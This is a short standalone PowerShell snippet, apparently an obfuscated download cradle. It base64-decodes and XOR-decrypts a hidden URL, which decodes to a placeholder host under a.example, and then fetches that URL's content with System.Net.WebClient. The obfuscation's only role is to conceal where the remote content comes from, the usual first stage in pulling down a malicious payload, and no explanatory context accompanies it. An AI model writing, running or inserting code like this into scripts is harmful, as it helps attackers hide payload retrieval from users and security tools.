$b=[Convert]::FromBase64String('Mi4uKmB1dTt0PyI7Nyo2P3UqdSJ0LiIu');for($i=0;$i -lt $b.Count;$i++){$b[$i]=$b[$i] -bxor 0x5a}
$wc = New-Object System.Net.WebClient
$wc.DownloadString([Text.Encoding]::ASCII.GetString($b))
